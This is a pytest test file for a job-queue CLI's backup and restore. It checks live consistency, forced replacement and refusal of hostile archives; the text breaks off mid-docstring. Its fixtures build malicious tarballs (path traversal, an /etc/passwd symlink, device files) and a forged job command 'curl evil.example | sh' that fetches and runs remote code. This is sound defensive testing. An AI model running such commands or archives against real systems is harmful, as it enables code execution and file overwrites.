"""``backup`` and ``restore``: a consistent copy taken while workers run, restored into an
empty or new home that passes ``fsck`` and that ``journal rebuild`` agrees with; archives
that are damaged or hostile are refused with one line and leave nothing behind."""

from __future__ import annotations

import gzip
import io
import json
import os
import pty
import subprocess
import sys
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from queuectl.admin.backup import MANIFEST, backup
from queuectl.job import JobState, job_from_input, utcnow
from queuectl.scheduler import Outcome, OutcomeKind, after_attempt
from queuectl.storage.commit import Change
from queuectl.storage.home import Home
from queuectl.storage.journal import scan
from queuectl.storage.store import Claim, Store

from .conftest import Procs, jobs_in, run_cli, wait_until

JOB_FOLDERS = tuple(state.value for state in JobState)


# ---------------------------------------------------------------------- helpers


def members(archive: Path) -> dict[str, bytes]:
    """Every member of an archive by name (read with the standard library: a backup is an
    ordinary .tar.gz)."""
    with tarfile.open(archive, "r:gz") as tar:
        out = {}
        for info in tar:
            assert info.isreg(), info.name
            handle = tar.extractfile(info)
            assert handle is not None
            out[info.name] = handle.read()
        return out


def job_members(archive: Path) -> dict[str, list[str]]:
    """id -> the folders the archive has it in."""
    found: dict[str, list[str]] = {}
    for name in members(archive):
        folder, _, file = name.partition("/")
        if folder in JOB_FOLDERS:
            found.setdefault(file[: -len(".json")], []).append(folder)
    return found


def archive_records(archive: Path, tmp: Path) -> list[dict]:
    """The journal records of an archive (its journal unpacked into ``tmp``)."""
    folder = tmp / "journal"
    folder.mkdir(parents=True)
    for name, data in members(archive).items():
        if name.startswith("journal/"):
            (folder / name.split("/", 1)[1]).write_bytes(data)
    return [record.data for record in scan(folder).records]


def assert_sound(home: Path, jobs: int) -> None:
    """What a restored home must pass: fsck clean, and a rebuild that changes nothing."""
    checked = run_cli(home, "fsck")
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert checked.stdout.strip() == "clean"
    rebuilt = run_cli(home, "journal", "rebuild")
    assert rebuilt.returncode == 0, rebuilt.stderr
    assert f"rebuilt: 0 written, {jobs} already right, 0 stale copies removed" in rebuilt.stdout


def listing(root: Path) -> dict[str, int | None]:
    """Every path under ``root`` (sizes of files): shows whether anything was written."""
    if not root.exists():
        return {}
    found: dict[str, int | None] = {}
    for path in sorted(root.rglob("*")):
        st = path.lstat()
        found[str(path.relative_to(root))] = st.st_size if path.is_file() else None
    return found


def finish(store: Store, job_id: str, ok: bool = True) -> None:
    claim = store.claims.claim(f"{job_id}.json", JobState.PENDING, "test", utcnow())
    assert isinstance(claim, Claim), claim
    now = utcnow()
    kind = OutcomeKind.SUCCEEDED if ok else OutcomeKind.FAILED
    outcome = Outcome(kind, exit_code=0 if ok else 1, started_at=now, finished_at=now)
    updated = after_attempt(claim.job, outcome, backoff_base=2, now=now)
    store.commits.commit([Change(updated, updated.state.value, remove=claim.path, attempt=True)])
    claim.release()


def enqueue(store: Store, *specs: dict) -> None:
    jobs = [job_from_input(spec, default_max_retries=3) for spec in specs]
    store.enqueue(jobs, explicit_ids=None)


@pytest.fixture
def small(home: Home) -> Store:
    """A home with a job in most states, a queue, a setting and a log."""
    store = Store(home)
    store.queues.add("slow", 2)
    store.set_config("max-retries", 5)
    enqueue(
        store,
        {"id": "done", "command": "echo done"},
        {"id": "broken", "command": "exit 1", "max_retries": 0},
        {"id": "waiting", "command": "true", "queue": "slow", "unique_key": "nightly"},
        {"id": "kept", "command": "true", "held": True},
        {"id": "later", "command": "true", "after": ["waiting"]},
    )
    finish(store, "done")
    finish(store, "broken", ok=False)
    (home.logs / "done").mkdir()
    (home.logs / "done" / "1.out").write_text("done\n")
    return store


# ---------------------------------------------------------------------- backup and restore


def test_backup_and_restore_into_a_new_home_reproduce_every_job(
    small: Store, tmp_path: Path
) -> None:
    source = small.home.root
    archive = tmp_path / "home.tar.gz"
    made = run_cli(source, "backup", str(archive))
    assert made.returncode == 0, made.stderr
    assert "backed up 5 job(s)" in made.stdout
    found = members(archive)
    assert next(iter(found)) == MANIFEST
    manifest = json.loads(found[MANIFEST])
    assert manifest["format"] == "queuectl-backup" and manifest["version"] == 1
    assert manifest["jobs"]["completed"] == 1 and manifest["jobs"]["held"] == 1
    assert "queues/slow.json" in found and "config.json" in found
    assert not any(name.startswith("logs/") for name in found)  # only with --logs
    target = tmp_path / "restored"
    done = run_cli(target, "restore", str(archive))
    assert done.returncode == 0, done.stderr
    assert "restored 5 job(s)" in done.stdout
    for state in JOB_FOLDERS:
        assert jobs_in(target, state) == jobs_in(source, state), state
        for path in (source / state).glob("*.json"):
            assert (target / state / path.name).read_bytes() == path.read_bytes()
    assert (target / "queues" / "slow.json").read_bytes() == (
        source / "queues" / "slow.json"
    ).read_bytes()
    assert json.loads((target / "config.json").read_text()) == {"max-retries": 5}
    assert not (target / "logs" / "done").exists()
    assert not list(target.glob(".restore*"))
    assert_sound(target, 5)


def test_the_restored_home_keeps_unique_keys_and_the_history(small: Store, tmp_path: Path) -> None:
    archive = tmp_path / "home.tar.gz"
    assert run_cli(small.home.root, "backup", str(archive), "--logs").returncode == 0
    target = tmp_path / "restored"
    assert run_cli(target, "restore", str(archive)).returncode == 0
    assert (target / "logs" / "done" / "1.out").read_text() == "done\n"
    again = run_cli(
        target, "enqueue", json.dumps({"command": "true", "queue": "slow", "unique_key": "nightly"})
    )
    assert again.returncode == 0, again.stderr
    assert again.stdout.strip() == "waiting"  # the key is still held by the restored job
    history = run_cli(target, "history", "broken", "--json")
    assert history.returncode == 0 and json.loads(history.stdout)[0]["event"] == "dead"


def test_a_running_job_comes_back_pending_with_its_attempt_counted_as_lost(
    home: Home, tmp_path: Path
) -> None:
    store = Store(home)
    enqueue(
        store,
        {"id": "running", "command": "true"},
        {"id": "last-try", "command": "true", "max_retries": 0},
        {"id": "idle", "command": "true"},
    )
    claims = [
        store.claims.claim(f"{job_id}.json", JobState.PENDING, "w:1", utcnow())
        for job_id in ("running", "last-try")
    ]
    assert all(isinstance(c, Claim) for c in claims)
    archive = tmp_path / "home.tar.gz"
    report = backup(store, archive)
    assert sorted(report.recovered) == ["last-try", "running"]
    assert job_members(archive) == {
        "running": ["pending"],
        "last-try": ["dead"],
        "idle": ["pending"],
    }
    saved = json.loads(members(archive)["pending/running.json"])
    assert saved["attempts"] == 1 and saved["history"][-1]["outcome"] == "worker_lost"
    assert "found by backup" in saved["last_error"]
    recovered = [
        r for r in archive_records(archive, tmp_path / "unpacked") if r["event"] == "recovered"
    ]
    assert sorted(r["job"]["id"] for r in recovered) == ["last-try", "running"]
    assert all(r["attempt"] is True for r in recovered)
    target = tmp_path / "restored"
    result = run_cli(target, "restore", str(archive))
    assert result.returncode == 0, result.stderr
    assert "were running when the backup was taken" in result.stdout
    assert_sound(target, 3)
    # The source is untouched: its jobs still run there.
    assert jobs_in(home.root, "processing") == ["last-try", "running"]
    for claim in claims:
        assert isinstance(claim, Claim)
        claim.release()


def test_a_processing_copy_behind_its_journaled_outcome_is_not_taken_for_a_running_job(
    home: Home, tmp_path: Path
) -> None:
    """A commit journals the outcome before it unlinks the processing/ copy: a cut between
    the two must keep the outcome, not count a lost attempt."""
    store = Store(home)
    enqueue(store, {"id": "a", "command": "true"})
    claim = store.claims.claim("a.json", JobState.PENDING, "w:1", utcnow())
    assert isinstance(claim, Claim)
    now = utcnow()
    done = after_attempt(
        claim.job, Outcome(OutcomeKind.SUCCEEDED, 0, None, now, now), backoff_base=2, now=now
    )
    store.commits.commit([Change(done, done.state.value, remove=None, attempt=True)])
    assert jobs_in(home.root, "processing") == ["a"]
    report = backup(store, tmp_path / "b.tar.gz")
    claim.release()
    assert report.recovered == []
    assert job_members(tmp_path / "b.tar.gz") == {"a": ["completed"]}


def test_a_backup_taken_while_workers_drain_has_every_job_once_and_a_matching_journal(
    qhome: Path, procs: Procs, tmp_path: Path
) -> None:
    """Three worker processes of two threads drain 300 jobs while a backup runs: every job
    accepted before it is in the archive once, in one folder (never processing/); the
    archive's journal is the source's journal up to the cut, byte for byte, plus one
    recovered record per job that was running; the archive restores clean."""
    gate = tmp_path / "gate"
    ids = [f"j{i:03d}" for i in range(300)]
    lines = [json.dumps({"id": "slow", "command": f"until [ -e {gate} ]; do sleep 0.01; done"})]
    lines += [json.dumps({"id": i, "command": "sleep 0.01"}) for i in ids]
    added = run_cli(qhome, "enqueue", "-", input="\n".join(lines) + "\n")
    assert added.returncode == 0, added.stderr
    workers = [procs.worker(qhome, "--count", "2") for _ in range(3)]
    wait_until(
        lambda: "slow" in jobs_in(qhome, "processing") and len(jobs_in(qhome, "completed")) >= 20,
        message="the slow job running and the drain under way",
    )
    archive = tmp_path / "live.tar.gz"
    made = run_cli(qhome, "backup", str(archive))
    gate.touch()
    assert made.returncode == 0, made.stderr
    found = job_members(archive)
    assert sorted(found) == sorted(["slow", *ids])  # every job accepted before the backup...
    assert all(len(folders) == 1 for folders in found.values())  # ...once, in one folder
    assert not any("processing" in folders for folders in found.values())
    assert found["slow"] == ["pending"]
    assert json.loads(members(archive)["pending/slow.json"])["attempts"] == 1
    manifest = json.loads(members(archive)[MANIFEST])
    assert "slow" in manifest["recovered"]
    journal = sorted(n for n in members(archive) if n.startswith("journal/"))
    for name in journal[:-1]:  # sealed files whole; the newest up to the cut (checked below)
        assert members(archive)[name] == (qhome / name).read_bytes()[: len(members(archive)[name])]
    records = archive_records(archive, tmp_path / "unpacked")
    tail = records[len(records) - len(manifest["recovered"]) :]
    assert sorted(r["job"]["id"] for r in tail) == sorted(manifest["recovered"])
    assert all(r["event"] == "recovered" for r in tail)
    source_records = [r.data for r in scan(qhome / "journal").records]
    head = records[: len(records) - len(tail)]
    assert source_records[: len(head)] == head  # nothing torn, nothing reordered
    target = tmp_path / "restored"
    restored = run_cli(target, "restore", str(archive))
    assert restored.returncode == 0, restored.stderr
    assert_sound(target, 301)
    wait_until(lambda: len(jobs_in(qhome, "completed")) == 301, message="the drain to finish")
    for worker in workers:
        worker.terminate()
    for worker in workers:
        assert worker.wait(timeout=60) == 0


def test_backup_works_after_compaction_and_restores_the_snapshot(
    small: Store, tmp_path: Path
) -> None:
    from queuectl.admin.maintenance import compact

    compact(small, retention=0, now=utcnow())
    archive = tmp_path / "b.tar.gz"
    assert run_cli(small.home.root, "backup", str(archive)).returncode == 0
    assert any(name.endswith(".snap") for name in members(archive))
    target = tmp_path / "restored"
    assert run_cli(target, "restore", str(archive)).returncode == 0
    assert_sound(target, 5)


def test_backup_refuses_a_damaged_journal_and_keeps_an_older_archive(
    small: Store, tmp_path: Path
) -> None:
    archive = tmp_path / "b.tar.gz"
    assert run_cli(small.home.root, "backup", str(archive)).returncode == 0
    before = archive.read_bytes()
    segment = small.home.journal / "00000001.log"
    data = bytearray(segment.read_bytes())
    data[30] ^= 0xFF  # damage in the first record, valid ones follow
    segment.write_bytes(bytes(data))
    result = run_cli(small.home.root, "backup", str(archive))
    assert result.returncode == 1
    assert result.stderr.startswith("queuectl: error: journal damaged")
    assert "fsck --repair" in result.stderr and len(result.stderr.splitlines()) == 1
    assert archive.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".b.tar.gz")] == []


def test_backup_of_a_home_that_does_not_exist_creates_nothing(tmp_path: Path) -> None:
    missing = tmp_path / "typo"
    result = run_cli(missing, "backup", str(tmp_path / "b.tar.gz"))
    assert result.returncode == 2 and "no such folder" in result.stderr, result.stderr
    assert not missing.exists() and not (tmp_path / "b.tar.gz").exists()


def test_backup_to_a_folder_or_a_missing_folder_is_a_usage_error(
    small: Store, tmp_path: Path
) -> None:
    for target in (tmp_path, tmp_path / "missing" / "b.tar.gz"):
        result = run_cli(small.home.root, "backup", str(target))
        assert result.returncode == 2, result.stderr
        assert result.stderr.startswith("queuectl: error:"), result.stderr


# ---------------------------------------------------------------------- replacing a home


@pytest.fixture
def two_homes(small: Store, tmp_path: Path) -> tuple[Path, Path]:
    """(an archive of ``small``, another home with other jobs)."""
    archive = tmp_path / "b.tar.gz"
    assert run_cli(small.home.root, "backup", str(archive)).returncode == 0
    other = tmp_path / "other"
    assert run_cli(other, "enqueue", '{"id": "theirs", "command": "true"}').returncode == 0
    return archive, other


def test_a_home_that_is_not_empty_is_refused_without_force(
    two_homes: tuple[Path, Path],
) -> None:
    archive, other = two_homes
    before = listing(other)
    result = run_cli(other, "restore", str(archive))
    assert result.returncode == 1
    assert "is not empty" in result.stderr and "--force" in result.stderr
    assert listing(other) == before


def test_force_without_a_terminal_or_yes_refuses_at_once_with_a_hint(
    two_homes: tuple[Path, Path],
) -> None:
    archive, other = two_homes
    before = listing(other)
    result = run_cli(other, "restore", str(archive), "--force", input="y\n")
    assert result.returncode == 2
    assert result.stderr.count("\n") == 1 and "--yes" in result.stderr
    assert listing(other) == before


def test_force_yes_replaces_the_contents(two_homes: tuple[Path, Path]) -> None:
    archive, other = two_homes
    result = run_cli(other, "restore", str(archive), "--force", "--yes")
    assert result.returncode == 0, result.stderr
    assert "theirs" not in jobs_in(other, "pending")
    assert jobs_in(other, "completed") == ["done"]
    assert (other / "locks").is_dir()
    assert not [p for p in other.iterdir() if p.name.startswith(".restore")]
    assert_sound(other, 5)


def _restore_on_a_terminal(home: Path, archive: Path, answer: bytes) -> tuple[int, str]:
    """``restore --force`` with a terminal as stdin, answering the prompt with ``answer``."""
    leader, follower = pty.openpty()
    try:
        os.write(leader, answer)
        proc = subprocess.run(
            [
                sys.executable,
                "-m",
                "queuectl",
                "--home",
                str(home),
                "restore",
                str(archive),
                "--force",
            ],
            stdin=follower,
            capture_output=True,
            text=True,
            timeout=60,
        )
    finally:
        os.close(follower)
        os.close(leader)
    return proc.returncode, proc.stderr


def test_force_on_a_terminal_asks_and_a_no_changes_nothing(
    two_homes: tuple[Path, Path],
) -> None:
    archive, other = two_homes
    before = listing(other)
    code, err = _restore_on_a_terminal(other, archive, b"n\n")
    assert code == 1 and "Replace the contents of" in err and "not confirmed" in err
    assert listing(other) == before
    code, err = _restore_on_a_terminal(other, archive, b"y\n")
    assert code == 0, err
    assert jobs_in(other, "completed") == ["done"]
    assert_sound(other, 5)


def test_force_refuses_while_workers_run_for_the_home(
    two_homes: tuple[Path, Path], procs: Procs
) -> None:
    archive, other = two_homes
    procs.worker(other)
    wait_until(lambda: any((other / "workers").glob("*.json")), message="the worker to register")
    wait_until(
        lambda: json.loads(run_cli(other, "status", "--json").stdout)["workers"],
        message="the worker to be live",
    )
    result = run_cli(other, "restore", str(archive), "--force", "--yes")
    assert result.returncode == 1 and "workers are running" in result.stderr
    assert "done" not in jobs_in(other, "completed")
    assert not [p for p in other.iterdir() if p.name.startswith(".restore")]


def test_force_refuses_a_folder_that_is_not_a_home(
    two_homes: tuple[Path, Path], tmp_path: Path
) -> None:
    archive, _ = two_homes
    papers = tmp_path / "papers"
    papers.mkdir()
    (papers / "thesis.txt").write_text("years of work")
    result = run_cli(papers, "restore", str(archive), "--force", "--yes")
    assert result.returncode == 1 and "does not look like a queuectl home" in result.stderr
    assert listing(papers) == {"thesis.txt": len("years of work")}


def test_an_empty_home_made_by_another_command_counts_as_empty(
    two_homes: tuple[Path, Path], tmp_path: Path
) -> None:
    archive, _ = two_homes
    fresh = tmp_path / "fresh"
    fresh.mkdir(mode=0o700)  # an empty folder: status sets it up as a home
    assert run_cli(fresh, "status").returncode == 0  # creates the folders and lock files
    result = run_cli(fresh, "restore", str(archive))
    assert result.returncode == 0, result.stderr
    assert_sound(fresh, 5)


# ---------------------------------------------------------------------- hostile archives


def tar_gz(path: Path, entries: list[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for info, data in entries:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    path.write_bytes(gzip.compress(buffer.getvalue()))
    return path


def member(name: str, kind: bytes = tarfile.REGTYPE, **fields: object) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = 0o600
    for key, value in fields.items():
        setattr(info, key, value)
    return info


@pytest.fixture
def good(small: Store, tmp_path: Path) -> dict[str, bytes]:
    """The members of a real backup, to build hostile variants from."""
    archive = tmp_path / "good.tar.gz"
    assert run_cli(small.home.root, "backup", str(archive)).returncode == 0
    return members(archive)


def with_manifest(good: dict[str, bytes], *extra: tuple[tarfile.TarInfo, bytes | None]):  # type: ignore[no-untyped-def]
    return [(member(MANIFEST), good[MANIFEST]), *extra]


def hostile_archives(good: dict[str, bytes], tmp_path: Path) -> Iterator[tuple[str, Path, str]]:
    """(case, archive, what the error must say)."""
    yield (
        "dotdot",
        tar_gz(tmp_path / "a1.tar.gz", with_manifest(good, (member("../escape.json"), b"{}"))),
        "'..'",
    )
    yield (
        "absolute",
        tar_gz(
            tmp_path / "a2.tar.gz", with_manifest(good, (member(str(tmp_path / "abs.json")), b"{}"))
        ),
        "absolute path",
    )
    yield (
        "symlink",
        tar_gz(
            tmp_path / "a3.tar.gz",
            with_manifest(
                good, (member("pending/x.json", tarfile.SYMTYPE, linkname="/etc/passwd"), None)
            ),
        ),
        "symbolic link",
    )
    yield (
        "hardlink",
        tar_gz(
            tmp_path / "a4.tar.gz",
            with_manifest(
                good, (member("pending/x.json", tarfile.LNKTYPE, linkname=MANIFEST), None)
            ),
        ),
        "hard link",
    )
    yield (
        "device",
        tar_gz(
            tmp_path / "a5.tar.gz",
            with_manifest(
                good, (member("pending/x.json", tarfile.CHRTYPE, devmajor=1, devminor=3), None)
            ),
        ),
        "device file",
    )
    yield (
        "fifo",
        tar_gz(
            tmp_path / "a6.tar.gz",
            with_manifest(good, (member("pending/x.json", tarfile.FIFOTYPE), None)),
        ),
        "FIFO",
    )
    yield (
        "folder",
        tar_gz(
            tmp_path / "a7.tar.gz", with_manifest(good, (member("pending", tarfile.DIRTYPE), None))
        ),
        "folder",
    )
    huge = member("journal/00000001.log", size=(1 << 30) + 1)
    raw = tarfile.TarInfo(MANIFEST)
    raw.size = len(good[MANIFEST])
    stream = raw.tobuf(tarfile.PAX_FORMAT) + good[MANIFEST].ljust(-(-raw.size // 512) * 512, b"\0")
    stream += huge.tobuf(tarfile.PAX_FORMAT) + b"\0" * 4096  # claims 1 GiB + 1, holds nothing
    (tmp_path / "a8.tar.gz").write_bytes(gzip.compress(stream))
    yield "over-1-GiB", tmp_path / "a8.tar.gz", "1 GiB"
    whole = tar_gz(tmp_path / "full.tar.gz", [(member(n), d) for n, d in good.items()])
    data = whole.read_bytes()
    (tmp_path / "a9.tar.gz").write_bytes(data[: len(data) // 2])
    yield "truncated", tmp_path / "a9.tar.gz", "truncated"
    (tmp_path / "a10.tar.gz").write_bytes(b"this is not an archive\n" * 40)
    yield "not-gzip", tmp_path / "a10.tar.gz", "not a gzip file"
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w") as tar:
        info = member(MANIFEST)
        info.size = len(good[MANIFEST])
        tar.addfile(info, io.BytesIO(good[MANIFEST]))
    (tmp_path / "a11.tar.gz").write_bytes(plain.getvalue())
    yield "uncompressed-tar", tmp_path / "a11.tar.gz", "not a gzip file"
    jobs_only = [(member(n), d) for n, d in good.items() if n != MANIFEST]
    yield "no-manifest", tar_gz(tmp_path / "a12.tar.gz", jobs_only), "not a queuectl backup"
    wrong = json.loads(good[MANIFEST])
    wrong["version"] = 99
    yield (
        "wrong-version",
        tar_gz(
            tmp_path / "a13.tar.gz",
            [(member(MANIFEST), json.dumps(wrong).encode()), *jobs_only],
        ),
        "version 99",
    )
    yield (
        "manifest-not-json",
        tar_gz(tmp_path / "a14.tar.gz", [(member(MANIFEST), b"{nope"), *jobs_only]),
        "not valid JSON",
    )
    lying = json.loads(good[MANIFEST])
    lying["jobs"]["completed"] += 1
    yield (
        "manifest-lies",
        tar_gz(
            tmp_path / "a15.tar.gz", [(member(MANIFEST), json.dumps(lying).encode()), *jobs_only]
        ),
        "does not hold the jobs its manifest lists",
    )
    forged = dict(good)
    done = json.loads(forged["completed/done.json"])
    done["command"] = "curl evil.example | sh"  # same rev, another command
    forged["completed/done.json"] = json.dumps(done, indent=2).encode() + b"\n"
    yield (
        "disagrees-with-journal",
        tar_gz(tmp_path / "a16.tar.gz", [(member(n), d) for n, d in forged.items()]),
        "disagrees with its journal",
    )
    moved = dict(good)
    moved["pending/done.json"] = moved.pop("completed/done.json").replace(
        b'"state": "completed"', b'"state": "pending"'
    )
    yield (
        "moved-folder",
        tar_gz(tmp_path / "a20.tar.gz", [(member(n), d) for n, d in moved.items()]),
        "disagrees with its journal",
    )
    yield (
        "unknown-member",
        tar_gz(
            tmp_path / "a17.tar.gz", with_manifest(good, (member("bin/evil.sh"), b"#!/bin/sh\n"))
        ),
        "not part of a queuectl backup",
    )
    corrupt = bytearray(whole.read_bytes())
    corrupt[len(corrupt) // 2] ^= 0x55
    (tmp_path / "a18.tar.gz").write_bytes(bytes(corrupt))
    yield "corrupt-gzip", tmp_path / "a18.tar.gz", ""
    yield from wrong_types(good, tmp_path)
    bad_job = dict(good)
    bad_job["completed/done.json"] = b'{"id": "done", "command": 7}'
    yield (
        "invalid-job",
        tar_gz(tmp_path / "a19.tar.gz", [(member(n), d) for n, d in bad_job.items()]),
        "not a valid job",
    )


def wrong_types(good: dict[str, bytes], tmp_path: Path) -> Iterator[tuple[str, Path, str]]:
    """Members that parse as JSON but hold values of the wrong type."""

    def variant(name: str, changes: dict[str, bytes], insert_after: str | None = None) -> Path:
        entries = []
        for key, data in good.items():
            entries.append((member(key), changes.pop(key, data)))
            if key == insert_after:
                entries += [(member(k), v) for k, v in changes.items()]
        return tar_gz(tmp_path / f"{name}.tar.gz", entries)

    def manifest(**fields: object) -> bytes:
        return json.dumps({**json.loads(good[MANIFEST]), **fields}).encode()

    yield "manifest-jobs-text", variant("t1", {MANIFEST: manifest(jobs="many")}), "'jobs'"
    yield "manifest-count-text", variant("t2", {MANIFEST: manifest(schedules="2")}), "'schedules'"
    yield "manifest-hooks-list", variant("t3", {MANIFEST: manifest(hooks=[])}), "'hooks'"
    yield "manifest-not-object", variant("t4", {MANIFEST: b"[1, 2]"}), "does not describe"
    cursor = b'{"segment": "1", "offset": -1}'
    grown = json.loads(good[MANIFEST])
    grown["hooks"]["cursor"] = True
    grown["members"] += 1
    grown["bytes"] += len(cursor)
    yield (
        "hook-cursor-text",
        variant(
            "t5",
            {MANIFEST: json.dumps(grown).encode(), "hooks/cursor.json": cursor},
            insert_after="queues/slow.json",
        ),
        "hooks/cursor.json",
    )
    yield (
        "queue-limit-text",
        variant("t6", {"queues/slow.json": b'{"name": "slow", "parallel": "two"}'}),
        "not a valid queue",
    )
    env = json.loads(good["completed/done.json"])
    env["env"] = 5
    yield (
        "job-env-number",
        variant("t7", {"completed/done.json": json.dumps(env, indent=2).encode()}),
        "not a valid job",
    )
    yield (
        "config-text-number",
        variant("t8", {"config.json": b'{"max-retries": "lots"}'}),
        "config.json cannot be used",
    )


def test_hostile_and_damaged_archives_are_refused_and_leave_nothing(
    good: dict[str, bytes], tmp_path: Path
) -> None:
    cases = tmp_path / "cases"
    cases.mkdir()
    outside = listing(tmp_path)
    existing = tmp_path / "existing"
    existing.mkdir(mode=0o700)
    assert run_cli(existing, "status").returncode == 0
    existing_before = listing(existing)
    problems = []
    for case, archive, words in hostile_archives(good, cases):
        outside = listing(tmp_path)
        for target in (tmp_path / f"new-{case}", existing):
            result = run_cli(target, "restore", str(archive))
            lines = result.stderr.splitlines()
            if result.returncode != 2 or len(lines) != 1 or "Traceback" in result.stderr:
                problems.append(f"{case}: exit {result.returncode}: {result.stderr[-500:]}")
            elif not lines[0].startswith("queuectl: error:") or words not in lines[0]:
                problems.append(f"{case}: message {lines[0]!r} lacks {words!r}")
        if (tmp_path / f"new-{case}").exists():
            problems.append(f"{case}: the new home was left behind")
        if listing(existing) != existing_before:
            problems.append(f"{case}: the existing home changed")
        if listing(tmp_path) != outside:
            problems.append(f"{case}: something was written outside the home")
    assert not (tmp_path / "escape.json").exists() and not (tmp_path / "abs.json").exists()
    assert problems == [], "\n".join(problems)


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 4 MiB tmpfs (root only; skipped elsewhere)."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=4m", "tmpfs", str(mount)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {done.stderr.decode().strip()}")
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def test_an_archive_larger_than_the_free_space_is_refused(
    good: dict[str, bytes], tmp_path: Path, small_disk: Path
) -> None:
    big = json.loads(good[MANIFEST])
    big["bytes"] = 64 << 20
    declared = tar_gz(
        tmp_path / "declared.tar.gz",
        [(member(MANIFEST), json.dumps(big).encode())]
        + [(member(n), d) for n, d in good.items() if n != MANIFEST],
    )
    lying = json.loads(good[MANIFEST])
    lying["bytes"] = 2 << 20
    lying["log_files"] = 1
    lying["members"] += 1
    raw = json.dumps(lying).encode()
    entries = [(member(MANIFEST), raw)] + [(member(n), d) for n, d in good.items() if n != MANIFEST]
    entries.append((member("logs/done/1.out"), b"\0" * (8 << 20)))
    member_too_big = tar_gz(tmp_path / "member.tar.gz", entries)
    for archive, words in ((declared, "needs 67108864 bytes"), (member_too_big, "needs 8388608")):
        target = small_disk / "home"
        result = run_cli(target, "restore", str(archive))
        assert result.returncode == 2, result.stderr
        assert words in result.stderr and len(result.stderr.splitlines()) == 1, result.stderr
        assert not target.exists()
        assert os.listdir(small_disk) == []


def test_restore_of_a_missing_file_is_one_line(tmp_path: Path) -> None:
    result = run_cli(tmp_path / "h", "restore", str(tmp_path / "nope.tar.gz"))
    assert result.returncode == 2 and result.stderr.startswith("queuectl: error: cannot open")
    assert not (tmp_path / "h").exists()


def test_our_reader_takes_long_names_written_by_our_writer(home: Home, tmp_path: Path) -> None:
    """Ids of 128 characters give member names over ustar's 100: pax headers carry them."""
    store = Store(home)
    long_id = "x" * 128
    enqueue(store, {"id": long_id, "command": "echo long"})
    finish(store, long_id)
    (home.logs / long_id).mkdir()
    (home.logs / long_id / "1.out").write_text("long\n")
    archive = tmp_path / "b.tar.gz"
    assert run_cli(home.root, "backup", str(archive), "--logs").returncode == 0
    assert f"logs/{long_id}/1.out" in members(archive)
    target = tmp_path / "restored"
    assert run_cli(target, "restore", str(archive)).returncode == 0
    assert (target / "logs" / long_id / "1.out").read_text() == "long\n"
    assert_sound(target, 1)


def test_journal_of_the_restored_home_takes_new_records(small: Store, tmp_path: Path) -> None:
    archive = tmp_path / "b.tar.gz"
    assert run_cli(small.home.root, "backup", str(archive)).returncode == 0
    target = tmp_path / "restored"
    assert run_cli(target, "restore", str(archive)).returncode == 0
    assert run_cli(target, "worker", "start", "--burst").returncode == 0
    assert "waiting" in jobs_in(target, "completed") and "later" in jobs_in(target, "completed")
    assert_sound(target, 5)


def test_backup_inside_the_home_is_refused(small: Store) -> None:
    for folder in ("", "pending"):
        target = small.home.root / folder / "b.tar.gz"
        result = run_cli(small.home.root, "backup", str(target))
        assert result.returncode == 2 and "outside the home" in result.stderr, result.stderr
        assert not target.exists()


def test_a_job_file_the_journal_does_not_know_is_named(small: Store, tmp_path: Path) -> None:
    stray = json.loads((small.home.root / "pending" / "waiting.json").read_text())
    stray.update(id="stray", unique_key=None, generation=1)
    path = small.home.root / "pending" / "stray.json"
    path.write_text(json.dumps(stray))
    os.chmod(path, 0o600)
    result = run_cli(small.home.root, "backup", str(tmp_path / "b.tar.gz"))
    assert result.returncode == 0, result.stderr
    assert "not in the journal" in result.stderr and "stray" in result.stderr
    assert "stray" not in job_members(tmp_path / "b.tar.gz")


def test_a_failed_restore_into_an_empty_folder_leaves_it_empty(
    good: dict[str, bytes], tmp_path: Path
) -> None:
    folder = tmp_path / "empty"
    folder.mkdir()
    archive = tar_gz(tmp_path / "bad.tar.gz", with_manifest(good, (member("bin/x"), b"x")))
    result = run_cli(folder, "restore", str(archive))
    assert result.returncode == 2, result.stderr
    assert os.listdir(folder) == []


def test_a_torn_last_record_is_left_out_and_the_copy_is_clean(small: Store, tmp_path: Path) -> None:
    with open(small.home.journal / "00000001.log", "ab") as handle:
        handle.write(b'0badc0de {"torn')  # a writer died mid-append
    archive = tmp_path / "b.tar.gz"
    result = run_cli(small.home.root, "backup", str(archive))
    assert result.returncode == 0, result.stderr
    assert not members(archive)["journal/00000001.log"].endswith(b"torn")
    target = tmp_path / "restored"
    assert run_cli(target, "restore", str(archive)).returncode == 0
    assert_sound(target, 5)


def test_missing_journal_indexes_are_derived_from_the_records(small: Store, tmp_path: Path) -> None:
    for index in small.home.journal.glob("*.idx"):
        index.unlink()
    archive = tmp_path / "b.tar.gz"
    assert run_cli(small.home.root, "backup", str(archive)).returncode == 0
    assert len(job_members(archive)) == 5
    assert not any(name.endswith(".idx") for name in members(archive))
    target = tmp_path / "restored"
    assert run_cli(target, "restore", str(archive)).returncode == 0
    assert_sound(target, 5)


# ---------------------------------------------------------------------- every kind of object


def cli_ok(home: Path, *args: str) -> str:
    result = run_cli(home, *args)
    assert result.returncode == 0, (args, result.stderr)
    return result.stdout


def tree_bytes(root: Path, folders: tuple[str, ...]) -> dict[str, bytes]:
    return {
        str(path.relative_to(root)): path.read_bytes()
        for folder in folders
        for path in sorted((root / folder).glob("*"))
        if path.is_file() and not path.name.startswith(".")  # .leader: a lock file
    }


def test_every_kind_of_object_survives_the_round_trip(
    qhome: Path, procs: Procs, tmp_path: Path
) -> None:
    """Jobs in every state (held, blocked and failed-waiting included), a paused queue with
    a limit, a schedule, GPU settings and a GPU job, a configured and a per-job completion
    hook with its cursor and results, unique keys, labels and logs: the restored home holds
